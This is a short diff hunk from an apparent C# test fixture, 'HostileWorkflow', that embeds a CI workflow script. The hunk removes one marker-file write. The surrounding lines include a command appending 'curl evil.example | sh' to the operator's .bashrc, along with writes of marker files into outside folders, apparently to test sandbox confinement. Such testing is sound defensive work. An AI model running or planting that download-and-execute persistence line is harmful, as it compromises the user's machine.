@@ -49,7 +49,6 @@ internal static class HostileWorkflow
                   exec 2> /dev/null
                   echo 'curl evil.example | sh' >> HOME_OF_OPERATOR/.bashrc
                   for folder in ELSEWHERE; do : > $folder/MARK; done
-                  : > "$DOTNET_ROOT/MARK"
                   echo "> tmp: $(echo x > /tmp/MARK && cat /tmp/MARK)"
               - name: sockets
                 run: |
